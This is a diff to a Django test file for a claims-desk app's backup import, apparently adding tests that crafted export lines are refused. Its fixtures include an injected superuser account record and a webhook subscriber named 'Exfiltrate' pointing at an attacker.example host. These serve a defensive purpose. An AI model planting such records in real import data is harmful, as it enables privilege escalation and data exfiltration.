@@ -11,9 +11,12 @@ from django.db import connection
 from django.utils import timezone
 
 from claims import services
-from claims.models import Claim, Evidence, Revision
+from claims.models import Claim, Evidence, Revision, WebhookSubscriber
 from claims.models import triggers as db_triggers
 from claims.services import backup
+from claims.services.redactions import revision_redact
+from sources import services as source_services
+from sources import triggers as source_triggers
 from tests.support.factories import ClaimFactory, EvidenceFactory, SourceFactory, StoryFactory
 
 pytestmark = pytest.mark.django_db
@@ -32,11 +35,13 @@ def _wipe_desk() -> None:
     tables = ["claims_emailnotification", "claims_webhookdelivery", "claims_outboxevent"]
     tables += ["claims_watch"]
     tables += [model._meta.db_table for model in reversed(backup.MODELS)]
-    db_triggers.uninstall(connection)
+    for triggers in (db_triggers, source_triggers):
+        triggers.uninstall(connection)
     with connection.cursor() as cursor:
         for table in tables:
             cursor.execute(f"DELETE FROM {table}")
-    db_triggers.install(connection)
+    for triggers in (db_triggers, source_triggers):
+        triggers.install(connection)
 
 
 @pytest.fixture
@@ -86,6 +91,11 @@ def desk(editor, reporter, moderator):
     services.claim_hide(claim=hidden, actor=moderator, note="Unsourced")
     services.claim_assign(claim=hidden, assignee=reporter, actor=editor)
     services.note_add(claim=second, body="Call the airline back.", actor=editor)
+    source_services.source_update(
+        source=trudeau, name="Justin Trudeau, prime minister", kind="person", actor=moderator
+    )
+    hiding = Revision.objects.get(claim=hidden, kind="hidden")
+    revision_redact(revision=hiding, actor=moderator, parts=["note"], reason="Internal wording")
     return {"public": public, "second": second}
 
 
@@ -163,6 +173,82 @@ def test_import_of_a_file_that_is_not_an_export_is_refused(db, tmp_path):
     path.write_text('{"model": "claims.claim"}\n', encoding="utf-8")
 
     with pytest.raises(CommandError, match="not a claimdesk-export file"):
+        call_command("import_all", str(path))
+
+    assert backup.existing_rows() == {}
+
+
+def _export_with(tmp_path, extra: list[dict], *, after_line: int) -> tuple[object, int]:
+    """An export of the desk with ``extra`` lines slipped in; the first one's line number."""
+    path = tmp_path / "desk.jsonl"
+    call_command("export_all", str(path), stderr=open(tmp_path / "log", "w"))
+    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
+    crafted = [json.dumps(record) + "\n" for record in extra]
+    path.write_text("".join(lines[:after_line] + crafted + lines[after_line:]), encoding="utf-8")
+    return path, after_line + 1
+
+
+SUPERUSER = {
+    "model": "auth.User",
+    "pk": 9001,
+    "fields": {
+        "username": "intruder",
+        "password": "md5$salt$0123456789abcdef0123456789abcdef",
+        "is_superuser": True,
+        "is_staff": True,
+        "is_active": True,
+    },
+}
+SUBSCRIBER = {
+    "model": "claims.webhooksubscriber",
+    "pk": 9001,
+    "fields": {"name": "Exfiltrate", "url": "https://attacker.example/hook", "secret": "s"},
+}
+
+
+@pytest.mark.parametrize(
+    ("crafted", "named"),
+    [(SUPERUSER, "'auth.User'"), (SUBSCRIBER, "'claims.webhooksubscriber'")],
+    ids=["superuser", "webhook-subscriber"],
+)
+def test_a_model_export_all_does_not_write_refuses_the_whole_file(desk, tmp_path, crafted, named):
+    # After the users and the sources and stories, so rows before it were already restored.
+    path, line = _export_with(tmp_path, [crafted], after_line=8)
+    _wipe_desk()
+    get_user_model().objects.filter(username="mona").delete()
+
+    with pytest.raises(CommandError, match=rf"^Nothing imported\. Line {line}: {named} is not"):
+        call_command("import_all", str(path))
+
+    assert backup.existing_rows() == {}
+    assert not get_user_model().objects.filter(username__in=["intruder", "mona"]).exists()
+    assert not WebhookSubscriber.objects.exists()
+
+
+def test_a_user_line_with_more_than_a_username_is_refused(desk, tmp_path):
+    crafted = {"model": "auth.user", "username": "intruder", "is_superuser": True}
+    path, line = _export_with(tmp_path, [crafted], after_line=1)
+    _wipe_desk()
+
+    with pytest.raises(CommandError, match=rf"Line {line}: a auth.user line holds exactly model"):
+        call_command("import_all", str(path))
+
+    assert not get_user_model().objects.filter(username="intruder").exists()
+    assert backup.existing_rows() == {}
+
+
+def test_a_field_the_model_lacks_is_refused_with_its_line(desk, tmp_path):
+    path = tmp_path / "desk.jsonl"
+    call_command("export_all", str(path), stderr=open(tmp_path / "log", "w"))
+    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
+    line = next(n for n, text in enumerate(lines, 1) if '"claims.claim"' in text)
+    record = json.loads(lines[line - 1])
+    record["fields"]["is_superuser"] = True
+    lines[line - 1] = json.dumps(record) + "\n"
+    path.write_text("".join(lines), encoding="utf-8")
+    _wipe_desk()
+
+    with pytest.raises(CommandError, match=rf"Line {line}: .*is_superuser"):
         call_command("import_all", str(path))
 
     assert backup.existing_rows() == {}
